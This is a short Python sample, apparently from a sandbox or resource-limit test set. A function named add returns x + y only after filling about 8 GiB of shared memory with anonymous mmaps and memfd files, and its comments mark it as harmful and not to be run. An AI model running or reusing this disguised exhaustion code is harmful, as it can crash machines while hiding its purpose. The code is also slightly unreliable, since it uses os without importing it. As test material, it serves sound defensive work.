# Takes memory that counts as shared: anonymous maps and files without a name.
# stock: not run: it would harm the machine
# %% add
import mmap

def add(x, y):
    kept = []
    for _ in range(64):
        kept.append(mmap.mmap(-1, 64 << 20))
        kept[-1].write(b"x" * (64 << 20))
    for _ in range(64):
        kept.append(os.memfd_create("x"))
        os.write(kept[-1], b"x" * (64 << 20))
    return x + y
